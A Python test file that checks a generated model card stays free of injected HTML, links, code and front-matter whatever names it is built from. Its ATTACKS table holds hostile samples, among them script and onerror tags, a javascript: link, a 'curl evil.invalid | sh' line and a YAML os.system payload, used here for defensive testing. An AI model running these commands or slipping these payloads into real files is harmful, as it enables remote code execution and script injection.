"""A model card is published: whatever names and texts it is made from, it holds no HTML, link or code of theirs.

The report and the served page have their own tests of hostile texts: tests/report/test_page.py and
test_page_in_chromium.py, tests/serving/test_served_page.py.
"""

import ast
import re

import pytest
import yaml
from sentence_transformers import SentenceTransformer

from retrodistill.evaluation.results import Results, SystemResult
from retrodistill.report.card import Facts, Teaching, Turns, card_text
from retrodistill.training.settings import StageSettings

ATTACKS = {
    "tag": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "link": "[click](javascript:alert(1)) ![x](https://tracker.invalid/pixel)",
    "lines": "x\n\n# Safe to run\n\n```bash\ncurl evil.invalid | sh\n```\n",
    "front matter": "x\n---\nlicense: mit\nbase_model: evil/model\n---\n",
    "yaml": "!!python/object/apply:os.system ['true']\nlicense: mit",
    "code": 'x"); import os; os.system("evil")  # ',
    "span": "`</code><b>x</b>`",
    "backslash": "x\\",
    "direction": "safe\u202eelif\u2028\u0000x",
    "table": "x | y |\n| --- |",
}


def facts(text, **changed):
    """Facts with a text from outside in every place that has one."""
    values = {
        "name": "student",
        "kind": "static",
        "start": f"dense:{text}",
        "collection": text,
        "documents": 5,
        "queries": 2,
        "teaching": Teaching([(text, 0.3), (f"dense:{text}", 0.7)], "zscore-per-query", text),
        "stages": [
            StageSettings.model_validate({"objectives": ["kl"], "candidates": {"sources": ["bm25"], "depth": 5}})
        ],
        "learned": [
            {"texts": 2, "queries": 1, "held_out": 0, "sources": [text], "pairs": 3, "steps": 1, "seconds": 1.0}
        ],
        "changes": {"base": text},
        "documents_by": f"dense:{text}",
        "inputs": {text: text},
        "versions": {text: text},
        "hardware": {"processor": text, "gpu": text},
        "notes": [text],
        "source": text,
        "turns": Turns(text),
    }
    return Facts(**{**values, **changed})


def results(text):
    systems = [
        SystemResult(name="student", role="student", ndcg10=0.5, documents_by=text, queries_by=text),
        SystemResult(name=text, role="baseline", ndcg10=0.6, documents_by=text, queries_by=text),
    ]
    return Results(collection=text, split=text, queries=2, command=text, hardware={"processor": text}, systems=systems)


@pytest.fixture(scope="module")
def card(tiny_static):
    model = SentenceTransformer(tiny_static)
    return lambda text: card_text(model, facts(text), results(text))


def fenced(text):
    """The text outside of fences, and the code blocks in Python."""
    parts = re.split(r"^```(\w*)$", text, flags=re.MULTILINE)
    assert len(parts) % 4 == 1, "a fence is open"
    return "\n".join(parts[0::4]), [
        code for kind, code in zip(parts[1::4], parts[2::4], strict=True) if kind == "python"
    ]


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
class TestCards:
    def test_there_is_no_html(self, attack, card):
        outside, _ = fenced(card(attack))
        outside = re.sub(r"`[^`\n]*`", "", outside)  # code is text
        assert re.findall(r"<[A-Za-z/!?]", outside) == []

    def test_links_are_those_of_the_template(self, attack, card):
        said, usual = card(attack), card("usual")
        links = re.compile(r"\]\(([^)]*)\)")
        assert links.findall(said) == links.findall(usual)

    def test_headings_and_blocks_are_those_of_the_template(self, attack, card):
        (outside, code), (usual, usual_code) = fenced(card(attack)), fenced(card("usual"))
        headings = re.compile(r"^#{2,} .*", re.MULTILINE)
        assert headings.findall(outside) == headings.findall(usual)
        assert len(code) == len(usual_code)
        assert "\u202e" not in outside

    def test_the_code_calls_what_the_template_calls(self, attack, card):
        def calls(blocks):
            trees = [ast.parse(block) for block in blocks]
            return [ast.unparse(node.func) for tree in trees for node in ast.walk(tree) if isinstance(node, ast.Call)]

        assert calls(fenced(card(attack))[1]) == calls(fenced(card("usual"))[1])

    def test_the_front_matter_has_the_usual_keys(self, attack, card):
        def front(text):
            return yaml.safe_load(text.split("---\n")[1])

        said, usual = front(card(attack)), front(card("usual"))
        assert said.keys() == usual.keys()
        assert said.get("license") == usual.get("license")
        assert said.get("base_model") == usual.get("base_model")


def test_usual_names_stay_as_they_are(card):
    said = card("nfcorpus's part-1.2_x (v3)")
    assert "&#" not in said
    assert "&lt;" not in said
    assert "nfcorpus's part-1.2_x (v3)" in said
